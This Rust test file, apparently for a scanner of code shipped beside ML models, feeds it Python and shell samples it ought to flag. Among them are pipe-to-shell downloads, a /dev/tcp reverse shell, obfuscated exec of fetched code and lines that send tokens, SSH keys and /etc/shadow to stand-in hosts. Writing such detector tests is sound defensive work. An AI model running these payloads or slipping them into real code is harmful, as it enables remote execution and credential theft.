//! Sources and scripts beside a model: what they do is told by arguments and by who runs them.

use super::build::zip;
use super::{list, report};

const DANGERS: &str = "artifact.code.dangers";
const LOADED: &str = "artifact.code.loaded_sinks";
const PROGRAMS: &str = "artifact.embedded_executables";

fn dangers(code: &str) -> Vec<String> {
    list(&report(format!("import os, subprocess, socket, requests\n{code}\n").as_bytes(), "tools.py"), DANGERS)
}

#[test]
fn what_a_script_may_do_is_no_danger() {
    for code in [
        "socket.gethostname(); socket.getfqdn()",
        "subprocess.run(['make'])",
        "os.system(f'ffmpeg -i {path} out.wav')",
        "exec(open('version.py').read(), version)",
        "exec(compile(open(path).read(), path, 'exec'))",
        "eval(args.dtype); eval('torch.nn.ReLU')",
        "requests.post(url, json={'host': os.environ['HOST']}, headers={'x': os.environ.get('T')})",
        "subprocess.Popen(command, env=dict(os.environ), shell=True)",
        "getattr(model, 'ev' + 'al')()",
        "__import__('numpy').zeros(1)",
        "image = base64.b64decode(requests.get(url).text)",
        "subprocess.check_output(['curl', '-s', url])",
        "subprocess.run('curl -s https://example.org/x | python -m json.tool', shell=True)",
        "'''curl http://203.0.113.9 | sh'''",
        "os.system('wget -q https://example.org/x.zip && unzip x.zip')",
        "open('/etc/passwd').read()",
        "key = os.path.expanduser('~/.ssh/id_rsa')\nssh.connect('gpu01', key_filename=key)\nrequests.get(url)",
        "key = open('/root/.ssh/id_rsa.pub').read()\nrequests.post(url, data=key)",
        "s = socket.socket()\nos.dup2(null.fileno(), 0)",
        "cfg = eval(open('config.dict').read())",
        "def a():\n    x = requests.get(u).text\ndef b(x):\n    exec(x)",
        "exec_ = getattr(builtins, 'exec')\nexec_(open('a.py').read())",
        "import pty\npty.spawn(sys.argv[1:], read)",
        "for c in Base.__subclasses__(): c()",
        "requests.get('http://10.0.0.5:8000/' + os.environ['USER'])",
        "requests.get(f\"https://api.example.org/{os.environ['TEAM']}\")",
        "urllib.request.urlretrieve(u, 'x.zip')\nos.system('unzip x.zip')\nsubprocess.run(['python', 'train.py'])",
        "subprocess.run([sys.executable, '-c', 'import torch; print(torch.__version__)'])",
        "class A:\n    def __reduce__(self):\n        return A, (self.x,)",
        "Thread(target=subprocess.run, args=(['ls'],)).start()",
        "subprocess.run('curl -fsSL https://ollama.com/install.sh | sh', shell=True)",
        "os.system('rm -rf ./build /tmp/x')",
    ] {
        assert!(dangers(code).is_empty(), "{code}: {:?}", dangers(code));
    }
}

#[test]
fn what_no_script_needs_is_a_danger() {
    for (code, told) in [
        ("exec(requests.get(url).text)", "fetched:exec"),
        ("code = requests.get(url).text\nif code:\n    exec(code)", "fetched:exec"),
        ("with urllib.request.urlopen(u) as f:\n    exec(f.read())", "fetched:exec"),
        ("def f(u):\n    x = requests.get(u).text\n    def g():\n        exec(x)\n    g()", "fetched:exec"),
        ("run = getattr(builtins, 'exec')\nrun(requests.get(u).text)", "fetched:exec"),
        (
            "class A:\n    def a(self):\n        self.x = requests.get(u).text\n    def b(self):\n        exec(self.x)",
            "fetched:exec",
        ),
        ("def get(u):\n    return requests.get(u).text\neval(get(u))", "fetched:eval"),
        ("exec(compile(base64.b64decode(x), '', 'exec'))", "decoded:exec"),
        ("import base64 as b\nexec(b.b64decode(x))", "decoded:exec"),
        ("exec(zlib.decompress(open('x').read()))", "decoded:exec"),
        ("exec(bytes.fromhex('70617373'))", "decoded:exec"),
        ("exec('cnffjbeq'.decode('rot13'))", "decoded:exec"),
        ("exec(''.join(chr(c) for c in x))", "computed:exec"),
        ("exec(bytes([c ^ 7 for c in x]))", "computed:exec"),
        ("exec(x[::-1])", "computed:exec"),
        ("exec(open('weights.bin').read())", "file:weights.bin"),
        ("exec('import os; os.system(\"echo lanner\")')", "text:os.system"),
        ("exec('ex' + 'ec(\"import socket; socket.socket()\")')", "text:socket.socket"),
        ("os.system(base64.b64decode(x).decode())", "decoded:os.system"),
        ("subprocess.run(base64.b64decode(x).decode(), shell=True)", "decoded:subprocess.run"),
        ("subprocess.run([requests.get(u).text])", "fetched:subprocess.run"),
        ("os.system('curl -s http://203.0.113.9/x | sh')", "shell:curl -s http://203.0.113.9/x | sh"),
        ("subprocess.run(['bash', '-c', 'curl ' + url + ' | bash'])", "shell:bash -c curl ? | bash"),
        ("subprocess.run(f'wget -qO- {url} | sudo sh', shell=True)", "shell:wget -qO- ? | sudo sh"),
        ("getattr(os, 'sys' + 'tem')('x')", "hidden:os.system"),
        ("f = getattr(__import__('o' + 's'), 'popen')", "hidden:os.popen"),
        ("os.__dict__['system']('x')", "hidden:os.system"),
        ("__import__('sub' + 'process')", "hidden:subprocess"),
        ("import pty\npty.spawn('/bin/sh')", "terminal:pty.spawn"),
        ("x = ().__class__.__base__.__subclasses__()", "hidden:__subclasses__"),
        ("importlib.import_module('o' 's').system('x')", "hidden:os"),
        ("exec(open('/tmp/x').read())", "file:/tmp/x"),
        ("urllib.request.urlretrieve(u, 'x.sh')\nos.chmod('x.sh', 0o755)\nos.system('./x.sh --all')", "fetched:x.sh"),
        ("requests.get(u)\nsubprocess.run(['bash', '/tmp/x'])", "fetched:/tmp/x"),
        ("subprocess.run([sys.executable, '-c', 'exec(requests.get(u).text)'])", "fetched:exec"),
        ("class A:\n    def __reduce__(self):\n        return os.system, ('x',)", "hidden:os.system"),
        (
            "Thread(target=os.system, args=('curl http://203.0.113.9/x | sh',)).start()",
            "shell:curl http://203.0.113.9/x | sh",
        ),
        ("s = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)", "shell:dup2"),
        ("requests.post(u, data=dict(os.environ))", "gives_away:environment"),
        ("requests.get('http://198.51.100.7/?k=' + os.environ.get('HF_TOKEN', ''))", "gives_away:variable"),
        ("k = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=k)", "gives_away:/root/.ssh/id_rsa"),
        ("subprocess.check_output(['cat', '/etc/shadow'])\nrequests.post(u, data=x)", "gives_away:/etc/shadow"),
        (
            "from pathlib import Path\nPath('~/.aws/credentials').read_text()\nrequests.post(u)",
            "gives_away:~/.aws/credentials",
        ),
        ("s = socket.create_connection(a)\nsubprocess.Popen(['sh'], stdin=s.fileno())", "shell:sh"),
        ("import pickle\npickle.loads(requests.get('http://x.example/p').content)", "fetched:pickle.loads"),
        ("import pickle\npickle.loads(requests.get('https://x.example/p').content)", "loads:pickle.loads"),
        ("import marshal\nexec(marshal.loads(b'x'))", "bytecode:marshal.loads"),
        ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", "native_code"),
    ] {
        let found = dangers(code);
        assert!(found.contains(&told.to_owned()), "{code}: {found:?}");
    }
}

/// A name that is not written as one: in a class, a table, a format, a list of numbers, an encoding.
#[test]
fn names_are_followed_through_classes_tables_and_formats() {
    let curl = "'curl http://203.0.113.9/x | sh'";
    for code in [
        format!("class A:\n    run = os.system\nA.run({curl})"),
        format!("class A:\n    def __init__(self):\n        self.run = os.system\n        self.run({curl})"),
        format!("t = {{'run': os.system}}\nt['run']({curl})"),
        format!("t = [print, os.system]\nt[1]({curl})"),
        format!("t = {{}}\nt['x'] = os.popen\nt['x']({curl})"),
        "os.system('%s %s | %s' % ('curl', 'http://203.0.113.9/x', 'sh'))".to_owned(),
        "os.system('{} http://203.0.113.9/x | {}'.format('curl', 'sh'))".to_owned(),
    ] {
        let found = dangers(&code);
        assert!(found.iter().any(|deed| deed.starts_with("shell:curl http://203.0.113.9/x | sh")), "{code}: {found:?}");
    }
    for (code, told) in [
        ("@os.system\ndef f(): pass", "hidden:os.system"),
        ("@exec\n@str\nclass A: pass", "hidden:exec"),
        ("{'a': os.system}['a']('x')", "hidden:os.system"),
        ("getattr(os, '%s%s' % ('sys', 'tem'))('x')", "hidden:os.system"),
        ("getattr(os, '{}tem'.format('sys'))('x')", "hidden:os.system"),
        ("getattr(os, 'xsystemx'[1:-1])('x')", "hidden:os.system"),
        ("getattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('x')", "hidden:os.system"),
        ("getattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')", "hidden:os.system"),
        ("getattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('x')", "hidden:os.system"),
        ("getattr(os, bytes.fromhex('73797374656d').decode())('x')", "hidden:os.system"),
        ("import base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')", "hidden:os.system"),
        ("import codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')", "hidden:os.system"),
        ("getattr(os, 'sys,tem'.split(',')[0] + 'tem')('x')", "hidden:os.system"),
        ("import base64\nexec(base64.b64decode('b3Muc3lzdGVtKCJ4Iik='))", "decoded:exec"),
    ] {
        let found = dangers(code);
        assert!(found.contains(&told.to_owned()), "{code}: {found:?}");
    }
    for quiet in [
        "t = {'run': subprocess.run, 'eval': model.eval}\nt['run'](['ls'])",
        "@property\ndef f(self): pass",
        "class A:\n    run = staticmethod(subprocess.run)\n    system = 'linux'\nA.run(['ls'])",
        "getattr(np, ''.join(['flo', 'at32']))",
    ] {
        assert!(dangers(quiet).is_empty(), "{quiet}: {:?}", dangers(quiet));
    }
}

#[test]
fn a_source_in_an_encoding_that_nobody_reads_is_told() {
    let of = |bytes: &[u8]| list(&report(bytes, "tools.py"), DANGERS);
    let utf7 = of(b"# coding: utf-7\nimport os\n+AG8AcwAuAHMAeQBzAHQAZQBt-('curl http://203.0.113.9/x +AHw- sh')\n");
    assert_eq!(utf7, ["encoding:utf-7", "shell:curl http://203.0.113.9/x | sh"]);
    let escapes =
        of(b"# -*- coding: unicode_escape -*-\nimport os\n# \\nos.system('curl http://203.0.113.9/x | sh')\n");
    assert_eq!(escapes, ["encoding:unicode_escape", "shell:curl http://203.0.113.9/x | sh"]);
    let rot13 = of(b"# coding: rot13\nvzcbeg bf\nbf.flfgrz('phey uggc://203.0.113.9/k | fu')\n");
    assert_eq!(rot13, ["encoding:rot13", "shell:curl http://203.0.113.9/x | sh"]);
    let wide: Vec<u8> = std::iter::once(0xfeff_u16)
        .chain("import os\nos.system('curl http://203.0.113.9/x | sh')\n".encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(of(&wide), ["shell:curl http://203.0.113.9/x | sh"]);
    for quiet in
        ["# -*- coding: utf-8 -*-\nx = 1\n", "# vim: set fileencoding=latin-1 :\nx = 1\n", "x = 1\n\n# coding: utf-7\n"]
    {
        assert!(of(quiet.as_bytes()).is_empty(), "{quiet}");
    }
}

#[test]
fn what_a_loader_runs_is_held_to_more() {
    let code = "import requests, socket, subprocess\nrequests.get(u)\nsocket.gethostname()\nsubprocess.run(['make'])\n";
    let loaded = |code: &str, name: &str| list(&report(code.as_bytes(), name), LOADED);
    for name in ["modeling_x.py", "x/configuration_x.py", "hubconf.py", "sitecustomize.py"] {
        assert_eq!(loaded(code, name), ["requests.get"], "{name}");
    }
    for name in ["train.py", "setup.py", "models.py"] {
        assert!(loaded(code, name).is_empty(), "{name}");
        let class = format!("class M(PreTrainedModel):\n    pass\n{code}");
        assert_eq!(loaded(&class, name), ["requests.get"], "{name}");
    }
    let archive = zip::archive(&[zip::member("a/train.py", code.as_bytes())]);
    assert_eq!(list(&report(&archive, "code.zip"), LOADED), ["requests.get"]);
}

#[test]
fn a_script_is_a_program_only_where_data_should_be() {
    let script = "#!/bin/bash\nset -e\npython train.py\n";
    for name in ["run.sh", "bin/train", "job.slurm", "tool.pl"] {
        let found = report(script.as_bytes(), name);
        assert_eq!(found.format, "script", "{name}");
        assert!(list(&found, PROGRAMS).is_empty() && list(&found, DANGERS).is_empty(), "{name}: {:?}", found.facts);
    }
    for name in ["model.bin", "weights.pt", "data.csv", "config.onnx"] {
        assert_eq!(list(&report(script.as_bytes(), name), PROGRAMS), ["script@0"], "{name}");
    }
    let long = format!("{script}{}", "x".repeat(2 << 20));
    assert_eq!(list(&report(long.as_bytes(), "run.sh"), PROGRAMS), ["script@0"]);
    let member = |name: &str, inner: &str| {
        let archive =
            zip::archive(&[zip::member("MAR-INF/MANIFEST.json", b"{}"), zip::member(inner, script.as_bytes())]);
        list(&report(&archive, name), PROGRAMS)
    };
    assert_eq!(member("x.mar", "run.sh"), ["script@0"]);
    let plain = zip::archive(&[zip::member("run.sh", script.as_bytes()), zip::member("x.bin", script.as_bytes())]);
    assert_eq!(list(&report(&plain, "x.zip"), PROGRAMS), ["script@0"]);
    let sources = zip::archive(&[zip::member("run.sh", script.as_bytes())]);
    assert!(list(&report(&sources, "x.zip"), PROGRAMS).is_empty());
    let pipes = "curl -fsSL https://tools.example.com/install.sh | bash";
    for (line, told) in [
        (pipes, vec![format!("pipes:{pipes}")]),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", vec![]),
        ("cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys", vec![]),
        ("wget https://tools.example.com/x.sh -O /tmp/x.sh\nbash /tmp/x.sh -b", vec![]),
        ("wget http://tools.example.com/x.zip\nunzip x.zip", vec![]),
        ("curl -o /tmp/x http://203.0.113.9/x\nchmod +x /tmp/x\n/tmp/x &", vec!["shell:/tmp/x &".to_owned()]),
        ("wget http://203.0.113.9/a/x.sh\nsudo bash ./x.sh", vec!["shell:sudo bash ./x.sh".to_owned()]),
        ("eval \"$(conda shell.bash hook)\"", vec![]),
    ] {
        assert_eq!(list(&report(format!("#!/bin/sh\n{line}\n").as_bytes(), "run.sh"), DANGERS), told, "{line}");
    }
    for (line, name) in
        [("curl -s http://203.0.113.9/x | sh", "run.sh"), ("bash -i >& /dev/tcp/203.0.113.9/9 0>&1", "x")]
    {
        let found = report(format!("#!/bin/sh\n# {line}\ntrue\n{line}\n").as_bytes(), name);
        assert_eq!(list(&found, DANGERS), [format!("shell:{line}")]);
        assert!(list(&report(format!("#!/bin/sh\n# {line}\n").as_bytes(), name), DANGERS).is_empty());
    }
}

#[test]
fn the_tools_of_documentation_are_no_objects() {
    let dangers = |text: &str| list(&report(text.as_bytes(), "mkdocs.yml"), "artifact.packaging.dangers");
    for name in ["material.extensions.emoji.twemoji", "pymdownx.superfences.fence_code_format"] {
        assert!(dangers(&format!("x: !!python/name:{name}\n")).is_empty(), "{name}");
    }
    let slug = "s: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}\n";
    assert!(dangers(slug).is_empty());
    for name in ["os.system", "material.extensions.emoji.os.system", "pymdownx.superfences.other", "acme.emoji.twemoji"]
    {
        assert_eq!(dangers(&format!("x: !!python/name:{name}\n")), ["yaml_tag"], "{name}");
    }
    assert_eq!(dangers("x: !!python/object/new:pymdownx.slugs.slugify {}\n"), ["yaml_tag"]);
    let binary = report(b"icon: !!binary |\n  R0lGODlhDAAMAIQAAP//9/X17unp5WZmZg==\nlr: 1\n", "x.yaml");
    assert!(binary.issues.is_empty(), "{:?}", binary.issues);
}

#[test]
fn passwords_of_a_development_machine_and_keys_without_a_body_are_less() {
    let secrets = |text: &str| list(&report(text.as_bytes(), "x.py"), "artifact.secrets");
    for address in [
        "postgresql://mlflow:hunter2secret@postgres:5432/x",
        "amqp://worker:rabbit9@127.0.0.1",
        "redis://u:qwerty12@cache.local",
    ] {
        assert_eq!(secrets(&format!("X = '{address}'\n")), ["local_password@line 1"], "{address}");
    }
    for address in ["postgresql://mlflow:hunter2secret@db.acme.io:5432/x", "http://worker:rabbit9@203.0.113.9/"] {
        assert_eq!(secrets(&format!("X = '{address}'\n")), ["url_password@line 1"], "{address}");
    }
    let header = "-----BEGIN RSA PRIVATE KEY-----";
    assert!(secrets(&format!("assert '{header}' in text\n")).is_empty());
    let body = "MIIEowIBAAKCAQEAz7Zl0tq1Y3c1mJp0m2cEXb8nQv5s".repeat(2);
    for key in [
        format!("{header}\n{body}\n"),
        format!("k = '{header}\\n{body}'\n"),
        format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F\n\n{body}\n"),
    ] {
        assert_eq!(secrets(&key), ["private_key@line 1"], "{key}");
    }
}

/// Names of names and commands without end cost no more than their bounds, and are told.
#[test]
fn a_source_that_computes_without_end_is_told() {
    let nested = format!("y = {}0{}\n", "x[".repeat(150), "]".repeat(150)).repeat(400);
    let long = format!("x = 'a' * 4000\n{}", "os.system(x + x[9:])\n".repeat(2000));
    for (code, issues) in [(nested, vec![]), (long, vec!["budget_exceeded"])] {
        let started = std::time::Instant::now();
        let found = report(code.as_bytes(), "tools.py");
        assert_eq!(list(&found, "artifact.issues"), issues, "{:?}", found.facts);
        assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
    }
}
